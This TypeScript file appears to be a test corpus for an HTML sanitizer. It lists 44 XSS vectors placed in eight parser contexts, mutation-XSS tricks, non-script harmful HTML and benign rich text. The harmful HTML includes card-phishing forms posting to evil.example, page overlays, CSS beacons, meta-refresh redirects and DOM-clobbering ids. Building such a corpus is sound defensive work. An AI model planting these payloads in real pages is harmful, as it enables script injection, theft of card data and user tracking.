/**
 * Own corpus. HTML that a server may send: 44 ways to run a script in eight surroundings, harm without one,
 * good text.
 */

/** Calls the page's detector: `__hit` counts, so that a vector that runs is seen. */
const HIT = 'window.__hit()';

/** Elements that run a script by themselves, each a way of its own. */
const RUNNERS: readonly string[] = [
  `<img src=x onerror=${HIT}>`,
  `<img src=x onerror="${HIT}" alt=a>`,
  `<IMG SRC=x OnErRoR=${HIT}>`,
  `<img/src=x/onerror=${HIT}>`,
  `<img src=x\tonerror\n=\n${HIT}>`,
  `<img src onerror=${HIT}>`,
  `<image src=x onerror=${HIT}>`,
  `<svg onload=${HIT}></svg>`,
  `<svg><image href=x onerror=${HIT}></image></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s></animate></svg>`,
  `<svg><set onbegin=${HIT} attributeName=x to=y></set></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`,
  `<video src=x onerror=${HIT}></video>`,
  `<video><source src=x onerror=${HIT}></video>`,
  `<audio src=x onerror=${HIT}></audio>`,
  `<iframe srcdoc="<script>parent.__hit()</script>"></iframe>`,
  `<iframe src="javascript:parent.__hit()"></iframe>`,
  `<object data=x onerror=${HIT}></object>`,
  `<embed src="javascript:${HIT}">`,
  `<details open ontoggle=${HIT}><summary>a</summary></details>`,
  `<input autofocus onfocus=${HIT}>`,
  `<select autofocus onfocus=${HIT}></select>`,
  `<textarea autofocus onfocus=${HIT}></textarea>`,
  `<button autofocus onfocus=${HIT}>a</button>`,
  `<a href=# tabindex=1 autofocus onfocus=${HIT}>a</a>`,
  `<div tabindex=1 autofocus onfocus=${HIT}>a</div>`,
  `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationend=${HIT}>a</p>`,
  `<link rel=stylesheet href=x onerror=${HIT}>`,
  `<script>${HIT}</script>`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<body onload=${HIT}>`,
  `<marquee onstart=${HIT}>a</marquee>`,
  `<math><mtext><img src=x onerror=${HIT}></mtext></math>`,
  `<p is=x onclick=${HIT}><img src=x onerror=${HIT}></p>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${HIT}>">`,
  `<template><img src=x onerror=${HIT}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${HIT}></template></div>`,
  `<a href="jav&#x09;ascript:${HIT}">a</a><img src=x onerror=${HIT}>`,
  `<x-y onclick=${HIT} contenteditable><img src=x onerror=${HIT}></x-y>`,
];

/** What stands around them: parsers change their minds inside these. */
const WRAPPERS: readonly ((vector: string) => string)[] = [
  vector => vector,
  vector => `<p>text ${vector} text</p>`,
  vector => `<table><tr><td>${vector}</td></tr></table>`,
  vector => `<table>${vector}</table>`,
  vector => `<ul><li>${vector}`,
  vector => `<!--a-->${vector}<!--`,
  vector => `<svg><desc>${vector}</desc></svg>`,
  vector => `</div></div>${vector}`,
];

/** Every runner in every surrounding. */
export const runningVectors: readonly string[] = WRAPPERS.flatMap(wrap => RUNNERS.map(wrap));

const covering = 'position:fixed;inset:0;z-index:99999';

/** HTML that runs nothing and harms all the same: it asks for card data, covers the page, spies or misleads. */
export const harmVectors: readonly string[] = [
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<form><input type="password"></form>',
  '<input name="card_number" autocomplete="cc-number">',
  '<input type="image" src="https://evil.example/a.png">',
  '<button formaction="https://evil.example">Pay</button>',
  '<textarea name="card"></textarea>',
  '<select><option>Pay</option></select>',
  '<label>Card <input></label>',
  '<fieldset><legend>Card</legend><input></fieldset>',
  '<keygen name="a">',
  '<isindex action="https://evil.example">',
  `<div style="${covering}">Over all</div>`,
  `<p style="${covering};background:red">Over all</p>`,
  '<style>.cashier{display:none}</style>',
  '<style>*{background:url(https://evil.example/spy)}</style>',
  '<style>@import "https://evil.example/a.css"</style>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<p style="background:url(https://evil.example/spy)">a</p>',
  '<table background="https://evil.example/spy"><tr><td>a</td></tr></table>',
  '<body background="https://evil.example/spy">',
  '<div popover id="p">Pay here</div>',
  '<button popovertarget="p">a</button>',
  '<dialog open>Pay here</dialog>',
  '<div slot="x" part="submit" class="button">a</div>',
  '<p id="place">a</p>',
  '<a id="__events" name="__events">a</a>',
  '<img name="mountCashier" src="https://img.example/a.png">',
  '<form id="test"><input name="attributes"></form>',
  '<slot name="x"></slot>',
  '<div contenteditable>Card number</div>',
  '<div draggable="true">a</div>',
  '<p hidden>a</p>',
  '<p tabindex="99">a</p>',
  '<p accesskey="s">a</p>',
  '<p autofocus tabindex="0">a</p>',
  '<p inert>a</p>',
  '<p role="alert" aria-live="assertive">Pay now</p>',
  '<p data-dialog-title="">a</p>',
  '<video autoplay loop src="https://evil.example/a.mp4"></video>',
  '<audio autoplay src="https://evil.example/a.mp3"></audio>',
  '<marquee>a</marquee>',
  '<blink>a</blink>',
  '<iframe src="https://evil.example"></iframe>',
  '<frameset><frame src="https://evil.example"></frameset>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<portal src="https://evil.example"></portal>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<img src="http://evil.example/a.png">',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22/>">',
  '<img src="//evil.example/a.png">',
  '<img srcset="https://evil.example/a.png 2x" src="https://img.example/a.png">',
  '<picture><source srcset="https://evil.example/a.png"><img src="https://img.example/a.png"></picture>',
  '<img src="https://user:pass@evil.example/a.png">',
  '<img usemap="#m" src="https://img.example/a.png"><map name="m"><area href="javascript:0"></map>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" java\nscript:alert(1)">a</a>',
  '<a href="data:text/html,a">a</a>',
  '<a href="vbscript:a">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="http://evil.example">a</a>',
  '<a href="https://bank.example@evil.example">a</a>',
  '<a href="/withdrawal">a</a>',
  '<a href="#top" target="_top">a</a>',
  '<a href="https://good.example" target="_self" download ping="https://evil.example">a</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<math href="javascript:alert(1)">a</math>',
];

/** Ordinary rich text: nothing of it may be lost. */
export const richText =
  '<h2>Rules</h2><p>Wager <b>30 times</b> within <em>7 days</em>.<br>Then it is <mark>yours</mark>.</p>' +
  '<ul><li>Slots</li><li>Live</li></ul><ol start="3"><li>Three</li></ol>' +
  '<table><thead><tr><th>Game</th></tr></thead><tbody><tr><td colspan="2">Slots</td></tr></tbody></table>' +
  '<blockquote dir="rtl" lang="ar">نص</blockquote><a href="https://good.example/terms?a=1&amp;b=2" title="T">Terms</a>';
